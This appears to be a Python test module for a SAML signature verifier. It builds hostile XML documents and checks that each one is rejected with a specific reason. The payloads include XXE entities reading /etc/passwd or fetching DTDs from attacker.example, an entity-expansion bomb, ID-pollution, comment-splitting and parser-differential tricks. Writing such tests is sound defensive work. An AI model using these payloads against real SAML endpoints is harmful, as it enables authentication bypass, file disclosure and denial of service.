"""Documents that two XML parsers may read differently, or that cost a parser more than they should."""

from __future__ import annotations

import re
from collections.abc import Callable

from hkeid.saml.dsig import Limits, Reason
from hkeid.testing.saml_attacks.catalogue import attack, covered_else, limits_of
from hkeid.testing.saml_attacks.surgery import Bench
from hkeid.testing.saml_attacks.targets import Target
from hkeid.testing.saml_specimens import Kind

_TYPES = {
    "external_entity": '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "external_entity_http": '<!DOCTYPE r [<!ENTITY e SYSTEM "http://attacker.example/">]>',
    "parameter_entity": '<!DOCTYPE r [<!ENTITY % e SYSTEM "http://attacker.example/"> %e;]>',
    "external_document_type": '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">',
    "public_document_type": '<!DOCTYPE r PUBLIC "-//X//Y" "http://attacker.example/r.dtd">',
    "empty_document_type": "<!DOCTYPE r>",
    "entity_bomb": '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    "default_attribute": '<!DOCTYPE r [<!ATTLIST samlp:Response Destination CDATA "mallory">]>',
    "default_namespace_on_signature": "<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA "
    '"http://www.w3.org/2000/09/xmldsig#">]>',
    "id_declared_by_type": "<!DOCTYPE r [<!ATTLIST saml:NameID Format ID #IMPLIED>]>",
    "id_in_entity": '<!DOCTYPE r [<!ENTITY id "_response">]>',
    "document_type_quoting": "<!DOCTYPE r SYSTEM 'x\">' [<!ENTITY a '\"><r/><!--'>]>",
    "notation": '<!DOCTYPE r [<!NOTATION n SYSTEM "n">]>',
}
_SPLITS = {
    "comment": ("<!---->", Reason.COMMENT),
    "comment_with_text": ("<!-- x -->", Reason.COMMENT),
    "instruction": ("<?x y?>", Reason.PROCESSING_INSTRUCTION),
    "cdata": ("<![CDATA[]]>", Reason.CDATA),
}
_DECLARATIONS = {
    "declared_latin1": ('<?xml version="1.0" encoding="ISO-8859-1"?>', Reason.XML_DECLARATION),
    "declared_utf7": ('<?xml version="1.0" encoding="UTF-7"?>', Reason.XML_DECLARATION),
    "declared_utf16": ('<?xml version="1.0" encoding="UTF-16"?>', Reason.XML_DECLARATION),
    "declared_version_11": ('<?xml version="1.1"?>', Reason.XML_DECLARATION),
    "declared_twice": ('<?xml version="1.0"?><?xml version="1.0"?>', Reason.PROCESSING_INSTRUCTION),
    "stylesheet": ('<?xml-stylesheet href="http://attacker.example/"?>', Reason.XML_DECLARATION),
    "text_before": ("text", Reason.NOT_WELL_FORMED),
    "null_before": ("\0", Reason.NOT_WELL_FORMED),
}
_ON_TARGET = {
    "namespace_relative": (' xmlns:x="relative"', Reason.NAMESPACE),
    "namespace_relative_path": (' xmlns:x="../up"', Reason.NAMESPACE),
    "namespace_of_one_colon": (' xmlns:x=":"', Reason.NAMESPACE),
    "namespace_default_undeclared": (' xmlns=""', Reason.NAMESPACE),
    "namespace_prefix_undeclared": (' xmlns:x=""', Reason.NAMESPACE),
    "namespace_control_character": (' xmlns:x="urn:x&#1;"', Reason.NAMESPACE),
    "namespace_character_reference": (' xmlns:x="urn:&#x78;"', Reason.NAMESPACE),
    "namespace_space": (' xmlns:x="urn:x y"', Reason.NAMESPACE),
    "prefix_xml": (' xmlns:xml="http://www.w3.org/XML/1998/namespace"', Reason.NAMESPACE),
    "prefix_xmlns": (' xmlns:xmlns="http://www.w3.org/2000/xmlns/"', Reason.NAMESPACE),
    "prefix_xml_something": (' xmlns:XmlX="urn:x"', Reason.NAMESPACE),
    "xml_by_another_prefix": (
        ' xmlns:x="http://www.w3.org/XML/1998/namespace"',
        Reason.NOT_WELL_FORMED,
    ),
    "prefix_unbound": (' x:y="z"', Reason.NOT_WELL_FORMED),
    "id_beside": (' Id="_other"', Reason.ID_ATTRIBUTE),
    "id_in_small_letters": (' id="_other"', Reason.ID_ATTRIBUTE),
    "id_in_small_letters_same": (' id="{id}"', Reason.ID_ATTRIBUTE),
    "id_qualified": (' xmlns:x="urn:x" x:ID="_other"', Reason.ID_ATTRIBUTE),
    "id_in_protocol_namespace": (
        ' xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" p:ID="_other"',
        Reason.ID_ATTRIBUTE,
    ),
    "xml_id": (' xml:id="_other"', Reason.ID_ATTRIBUTE),
    "id_of_assertions_of_old": (' AssertionID="_other"', Reason.ID_ATTRIBUTE),
    "id_of_responses_of_old": (' ResponseID="_other"', Reason.ID_ATTRIBUTE),
    "id_of_requests_of_old": (' RequestID="_other"', Reason.ID_ATTRIBUTE),
    "id_of_web_services": (' xmlns:u="urn:u" u:Id="{id}"', Reason.ID_ATTRIBUTE),
    "attribute_twice": (' ID="{id}"', Reason.NOT_WELL_FORMED),
    "attributes_many": (" {many_attributes}", Reason.TOO_MANY_NODES),
    "namespaces_many": (" {many_namespaces}", Reason.TOO_MANY_NODES),
}
_IN_FIRST_CHILD = {
    "duplicate_id_before": ('<x:y xmlns:x="urn:x" ID="{id}"/>', Reason.ID_NOT_UNIQUE),
    "duplicate_id_small_before": ('<x:y xmlns:x="urn:x" id="{id}"/>', Reason.ID_NOT_UNIQUE),
    "duplicate_id_qualified": ('<x:y xmlns:x="urn:x" x:Id="{id}"/>', Reason.ID_ATTRIBUTE),
    "entity_unknown": ("&unknown;", Reason.NOT_WELL_FORMED),
    "character_forbidden": ("&#1;", Reason.NOT_WELL_FORMED),
    "character_null": ("&#0;", Reason.NOT_WELL_FORMED),
    "character_surrogate": ("&#xD800;", Reason.NOT_WELL_FORMED),
    "elements_many": ("{many_elements}", Reason.TOO_MANY_NODES),
    "elements_deep": ("{deep_elements}", Reason.TOO_DEEP),
    "elements_deeper_than_the_parser": ("{deeper_elements}", Reason.NOT_WELL_FORMED),
    "names_many": ("{many_names}", Reason.TOO_MANY_NAMES),
    "text_huge": ("{huge_text}", Reason.TOO_LARGE),
}


def _bombs(limits: Limits) -> dict[str, str]:
    """Large parts, by name."""
    deep = '<x:a xmlns:x="urn:x">' + "<x:a>" * 60
    deeper = '<x:a xmlns:x="urn:x">' + "<x:a>" * 400
    return {
        "many_attributes": " ".join(f'a{number}=""' for number in range(limits.attributes)),
        "many_namespaces": " ".join(
            f'xmlns:n{number}="urn:n"' for number in range(limits.namespaces + 1)
        ),
        "many_elements": "<a/>" * (2 * limits.nodes),
        "deep_elements": deep + "</x:a>" * 61,
        "deeper_elements": deeper + "</x:a>" * 401,
        "many_names": "".join(f"<name-{number:04d}/>" for number in range(1_500)),
        "huge_text": "x" * limits.octets,
    }


def _filled(text: str, bench: Bench) -> str:
    for name, value in _bombs(limits_of(bench.about.kind)).items():
        text = text.replace(f"{{{name}}}", value)
    return text.replace("{id}", bench.target.get("ID"))


def _start_of_target(bench: Bench) -> re.Match[str]:
    """The start tag of the attacked element in the text of the document."""
    found = re.search(rf'<[\w:]+ [^<]*?\bID="{bench.target.get("ID")}"[^<]*?>', _text(bench))
    if found is None:
        raise AssertionError("the element is not there")
    return found


def _text(bench: Bench) -> str:
    return bench.octets.decode()


def _on_target(addition: str) -> Callable[[Bench], bytes]:
    def make(bench: Bench) -> bytes:
        text, start = _text(bench), _start_of_target(bench)
        return (
            f"{text[: start.end() - 1]}{_filled(addition, bench)}{text[start.end() - 1 :]}".encode()
        )

    return make


def _inside_first_child(addition: str) -> Callable[[Bench], bytes]:
    """In Issuer, or in metadata in the endpoint: before Signature or not, it is refused at the gate."""

    def make(bench: Bench) -> bytes:
        text, start = _text(bench), _start_of_target(bench)
        if bench.about.kind is Kind.METADATA:
            place = re.compile(r"(?=</md:IDPSSODescriptor>)").search(text, start.end())
        else:
            place = re.compile(r"(?=</saml:Issuer>)").search(text, start.end())
        if place is None:
            raise AssertionError("no child")
        return f"{text[: place.start()]}{_filled(addition, bench)}{text[place.start() :]}".encode()

    return make


def _before(addition: str) -> Callable[[Bench], bytes]:
    return lambda bench: addition.encode() + bench.octets


def _in_text(element: str, addition: str, at: int) -> Callable[[Bench], bytes]:
    """Into the text of an element, before the character ``at`` (0: first, -1: last)."""

    def make(bench: Bench) -> bytes:
        text, start = _text(bench), _start_of_target(bench)
        found = re.compile(rf"<{element}\b[^>]*>([^<]+)</").search(text, start.start())
        if found is None:
            raise AssertionError(f"no {element}")
        place = found.start(1) + 1 if at == 0 else found.end(1) + at
        return f"{text[:place]}{addition}{text[place:]}".encode()

    return make


def _enter(
    family: str,
    name: str,
    expected: Reason | Callable[[Target], Reason],
    make: Callable[[Bench], bytes],
    applies: Callable[[Target], bool] | None = None,
) -> None:
    make.__name__ = name
    attack(family, expected, *([applies] if applies else []))(make)


def _has_name_id(target: Target) -> bool:
    return target.kind in (Kind.LOGOUT_REQUEST, Kind.ASSERTION) or target.inner


def _is_message(target: Target) -> bool:
    return target.kind is not Kind.METADATA


for _name, _addition in _TYPES.items():
    _enter("document type", _name, Reason.DOCUMENT_TYPE, _before(_addition))
for _name, (_addition, _reason) in _DECLARATIONS.items():
    _enter("parser differentials", _name, _reason, _before(_addition))
for _name, (_addition, _reason) in _ON_TARGET.items():
    _family = "ID pollution" if "id" in _name.split("_") else "namespaces"
    _enter(_family, _name, _reason, _on_target(_addition))
for _name, (_addition, _reason) in _IN_FIRST_CHILD.items():
    _family = "ID pollution" if "id" in _name.split("_") else "bombs"
    _enter(_family, _name, _reason, _inside_first_child(_addition))
for _name, (_addition, _reason) in _SPLITS.items():
    for _element, _label, _applies in (
        ("saml:NameID", "name_id", _has_name_id),
        ("saml:Issuer", "issuer", _is_message),
        ("ds:DigestValue", "digest", None),
        ("ds:SignatureValue", "signature_value", None),
    ):
        for _at in (0, -1):
            _place = "first" if _at == 0 else "last"
            _enter(
                "text splitting" if _label != "digest" else "SAMLStorm",
                f"{_name}_in_{_label}_{_place}",
                _reason,
                _in_text(_element, _addition, _at),
                _applies,
            )


@attack("parser differentials", Reason.NOT_UTF8)
def _encoded_as_utf16(bench: Bench) -> bytes:
    return _text(bench).encode("utf-16")


@attack("parser differentials", Reason.NOT_WELL_FORMED)
def _encoded_as_utf16_without_mark(bench: Bench) -> bytes:
    return _text(bench).encode("ascii", "xmlcharrefreplace").decode("ascii").encode("utf-16-le")


@attack("parser differentials", Reason.NOT_UTF8)
def _overlong_utf8(bench: Bench) -> bytes:
    octets = bench.octets
    place = octets.index(b"</", 200)
    return octets[:place] + b"\xc0\xbc" + octets[place:]


@attack("parser differentials", Reason.NOT_WELL_FORMED)
def _two_documents(bench: Bench) -> bytes:
    return bench.octets + bench.octets


@attack("parser differentials", Reason.NOT_WELL_FORMED)
def _cut_short(bench: Bench) -> bytes:
    return bench.octets[:-1]


@attack("parser differentials", covered_else(Reason.UNSIGNED))
def _signature_in_a_lookalike_namespace(bench: Bench) -> bytes:
    text, start = _text(bench), _start_of_target(bench)
    namespace = "http://www.w3.org/2000/09/xmldsig#"
    place = text.index(f'<ds:Signature xmlns:ds="{namespace}"', start.start())
    spoilt = text[place:].replace(namespace, "http://www.w3.org/2000/09/xmldsig", 1)
    return (text[:place] + spoilt).encode()
